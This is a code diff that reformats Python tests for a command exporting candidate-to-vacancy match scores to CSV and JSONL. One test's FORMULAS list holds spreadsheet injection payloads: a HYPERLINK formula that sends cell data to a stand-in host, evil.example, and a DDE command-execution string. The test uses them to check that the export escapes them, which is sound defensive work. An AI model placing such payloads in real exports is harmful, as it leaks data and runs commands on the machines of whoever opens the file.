@@ -33,7 +33,11 @@ def test_csv_rows_are_ranked_with_components_and_evidence(scored, tmp_path):
     assert "Python (required" in top["matched_skills"] and "Kafka" in top["missing_skills"]
     assert "Python: " in top["evidence"] and top["engine_version"]
     assert float(top["required_score"]) > 0 and top["text_score"] != ""
-    assert rows[2]["score"] == "" and rows[2]["state"] == "insufficient_data" and "too little text" in rows[2]["reason"]
+    assert (
+        rows[2]["score"] == ""
+        and rows[2]["state"] == "insufficient_data"
+        and "too little text" in rows[2]["reason"]
+    )
 
 
 def test_jsonl_top_k(scored, tmp_path):
@@ -54,10 +58,15 @@ def test_ties_confidence_and_flags_columns(tmp_path):
     from tests.factories import CandidateFactory, ContractMatchScoreFactory, EngineMatchScoreFactory
 
     vacancy = Vacancy.objects.create(source="t", reference="tie", title="Tie", description="x")
-    ContractMatchScoreFactory(vacancy=vacancy, candidate=CandidateFactory(reference="b"), score=80.0,
-                                      confidence="high")
-    EngineMatchScoreFactory(vacancy=vacancy, candidate=CandidateFactory(reference="a"), score=80.0)  # old shape
-    ContractMatchScoreFactory(vacancy=vacancy, candidate=CandidateFactory(reference="c"), score=50.0, flags=())
+    ContractMatchScoreFactory(
+        vacancy=vacancy, candidate=CandidateFactory(reference="b"), score=80.0, confidence="high"
+    )
+    EngineMatchScoreFactory(
+        vacancy=vacancy, candidate=CandidateFactory(reference="a"), score=80.0
+    )  # old shape
+    ContractMatchScoreFactory(
+        vacancy=vacancy, candidate=CandidateFactory(reference="c"), score=50.0, flags=()
+    )
     out = tmp_path / "scores.csv"
     call_command("export_scores", "--vacancy", "tie", "--format", "csv", "--out", str(out))
     rows = list(csv.DictReader(out.open(encoding="utf-8")))
@@ -65,8 +74,9 @@ def test_ties_confidence_and_flags_columns(tmp_path):
     assert [r["candidate_ref"] for r in rows] == ["b", "a", "c"]
     assert [(r["rank"], r["tied"]) for r in rows] == [("1", "yes"), ("1", "yes"), ("3", "")]
     assert [r["confidence"] for r in rows] == ["high", "", "medium"]
-    assert rows[0]["flags"] == ("keyword list: little evidence of use; "
-                                "CV in German: scored on recognised skills and qualifications")
+    assert rows[0]["flags"] == (
+        "keyword list: little evidence of use; CV in German: scored on recognised skills and qualifications"
+    )
     assert rows[1]["flags"] == rows[2]["flags"] == ""
     assert "TensorFlow (desirable, 1.9, credited 60 % through PyTorch (related))" in rows[0]["matched_skills"]
     assert "Python (required, 8.3, used)" in rows[0]["matched_skills"]
@@ -76,8 +86,14 @@ def test_ties_confidence_and_flags_columns(tmp_path):
     assert line["rank"] == 1 and line["tied"] is True and line["flags"][0]["code"] == "keyword_list"
 
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(1)",
-            "\tTAB", "\rCR"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "-2+3+cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1)",
+    "\tTAB",
+    "\rCR",
+]
 
 
 def test_csv_escapes_spreadsheet_formulas_in_references(tmp_path):
